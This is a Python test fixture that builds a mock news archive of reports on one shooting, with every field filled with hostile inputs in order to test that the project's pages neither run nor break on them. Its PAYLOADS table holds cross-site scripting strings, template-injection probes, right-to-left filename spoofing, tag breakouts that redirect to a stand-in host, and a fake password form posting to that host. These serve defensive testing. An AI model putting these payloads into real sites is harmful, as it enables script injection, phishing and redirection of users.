"""An archive in which every field that outlets, sources and colleagues fill tries to run or to break the page.

Halves of surrogate pairs are not in it: the archive takes none.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

from sayso.api import Project
from sayso.config import Config
from sayso.model import Analysis, Cause, Dateline, Judgement, Rejected, Verdict
from tests.builders import analysis, span_of

CANARY = "__ran"  # what anything that runs sets on `window`
RUN = f"window.{CANARY}=(window.{CANARY}||0)+1"
AWAY = "http://evil.invalid"  # where anything that leaves the machine goes
PAYLOADS = {
    "script": f"<script>{RUN}</script><script src={AWAY}/a.js></script>",
    "attribute": f"\"><img src=x onerror=\"{RUN}\"> ' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "svg": (
        f'<svg onload="{RUN}"><a xlink:href="javascript:{RUN}">'
        f'<set attributeName=href to="javascript:{RUN}"/></a></svg>'
    ),
    "link": f'javascript:{RUN}//" data:text/html,<script>{RUN}</script> &#106;avascript&colon;{RUN}',
    "template": (
        "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*7}#{7*7}<%= 7*7 %>{# gone #}"
    ),
    "steering": "\u202egpj.exe\u202d\u2066 the mayor \u2067\u200f\u061c of\u2028 the\u2029 harbour\u202e",
    "closing": (
        f"</title></style></textarea></script></bdi></main><base href={AWAY}/>"
        f"<meta http-equiv=refresh content=0;url={AWAY}><iframe src={AWAY}></iframe>"
    ),
    "style": (
        f"<style>*{{display:none!important}}</style><link rel=stylesheet href={AWAY}/x.css><h1>Another desk</h1>"
        f"<form action={AWAY}><input name=password><button autofocus>Come in</button></form>"
    ),
    "control": "bell\x07 nul\x00 back\x08 escape\x1b[2J delete\x7f next\x85 not\ufffe\uffff hits\ue000\ue001\ue000",
    "unbroken": "W" * 4_000,
    "accents": "Z" + "\u0361\u0489\u0327" * 300 + "algo",
    "json": '\\u003cscript\\u003e</script>","x":{"__proto__":1}}\\',
}
_LONG = 1_000_000


def hostile_analyses() -> Iterator[Analysis]:
    """Two reports for each payload, by two outlets, of one shooting; the titles of one are 1 MB long."""
    for number, (name, bad) in enumerate(PAYLOADS.items()):
        for outlet in ("Harbour Post", "Quay News"):
            yield _report(f"{name} {outlet}", bad, outlet, number + 1)
    yield _report("endless", PAYLOADS["script"], "Harbour Post", 30, title="<b>Endless</b> " * (_LONG // 15))
    yield _report("endless word", "<i>" + "M" * _LONG, "Quay News", 31)


def _report(name: str, bad: str, outlet: str, number: int, title: str = "") -> Analysis:
    title, day = title or f"{name} {bad}", f"2022-01-{number:02}"
    where, whom, victims = f"Vell {bad}", f"marchers {bad}", f"{number} people {bad}"
    who, mayor, called = f"Ministry {bad}", f"The mayor {bad}", f"massacre {bad}"
    body = (
        f"Soldiers {bad} shot at {whom} in {where} on Thursday {bad} because of a price rise {bad}, killing {victims},"
        f" {who} said. {mayor} denied that the guards fired first {bad}. It was a {called}."
    )
    given = analysis(
        f"{title}\n\n{body}",
        actors={
            f"Soldiers {bad}": {"sector": ["MIL"], "country": "KAZ", "reasons": [(bad[:80], 0.5, bad)]},
            whom: {"name": f"marchers {bad}", "sector": ["CVL"]},
            who: {"kind": "office", "name": who, "title": f"minister {bad}", "country": "KAZ"},
            mayor: {"kind": "person", "name": mayor, "title": bad},
        },
        places={where: {"name": where, "lat": 43.25, "lon": 76.91, "country": "KAZ", "level": "city"}},
        times={f"Thursday {bad}": {"first": day, "last": day, "value": bad}},
        claims=[
            {
                "chain": [(who, "said", "office")],
                "content": [f"Soldiers {bad} shot at {whom}"],
                "about": ["shot", victims],
            },
            {
                "chain": [(mayor, "denied", "person")],
                "content": [f"the guards fired first {bad}"],
                "stance": "denies",
                "about": ["shot"],
            },
        ],
        events=[
            {
                "trigger": "shot",
                "mode": "firearms",
                "actors": [f"Soldiers {bad}"],
                "recipients": [whom],
                "place": where,
                "time": f"Thursday {bad}",
                "evidence": [f"shot at {whom} in {where}"],
                "claims": ["said"],
                "reasons": [(bad[:80], 0.9, bad)],
            }
        ],
        tolls=[
            {"span": victims, "low": number, "high": number, "victims": bad, "event": "shot", "claims": ["said"]},
        ],
        labels=[{"text": called, "target": "shot", "claims": ["said"]}],
        title=title,
        outlet=f"{outlet} {bad}",
        url=_address(bad, name),
        byline=(f"Ana {bad}",),
        credits=(f"Silkroad Agency {bad}", f"{bad} (photo)"),
        dateline=Dateline(f"VELL {bad}", None, day),
        published=day,
        lang="en",
        origin=f"{bad}.jsonl:3",
    )
    return _blamed(given, f"a price rise {bad}")


def _blamed(given: Analysis, words: str) -> Analysis:
    cause = Cause("reason", span_of(given.article, words), span_of(given.article, "because of"))
    return replace(given, events=tuple(replace(event, causes=(cause,)) for event in given.events))


def _address(bad: str, name: str) -> str:
    """Addresses that are none, run, or break out of the attribute that holds them."""
    if name.startswith("link"):
        return f"javascript:{RUN}//{name}"
    if name.startswith("svg"):
        return f"data:text/html,<script>{RUN}</script>{name}"
    return f"https://evil.invalid/{name}?\"'><{bad[:2000]}"


def hostile_archive(path: Path) -> Path:
    """Make the archive, linked, with judgements and rejects as hostile as the reports."""
    with Project(Config(db=str(path))) as project:
        reports = list(hostile_analyses())
        rejects = [Rejected(f"{bad}.html", bad[:200], f"{bad[:3000]} {name}", bad) for name, bad in PAYLOADS.items()]
        project.store.put(reports, [], rejects, "test")
        project.relink()
        project.store.judge(*_words(reports))
        project.relink()
    return path


def _words(reports: list[Analysis]) -> Iterator[Judgement]:
    pairs = zip(reports[::2], reports[1::2], PAYLOADS.values(), strict=False)
    for number, (one, other, bad) in enumerate(pairs):
        at = f"2022-02-01T10:00:{number:02}+00:00"
        left, right = one.events[0].id, other.events[0].id
        verdict = Verdict.SAME if number % 2 else Verdict.NOT_SAME
        yield Judgement(left, right, verdict, f"ana {bad}", at, f"note {bad}", group=f"{number:016x}")
        yield Judgement(one.claims[0].id, "B2", Verdict.GRADE, f"bo {bad}", at, bad)
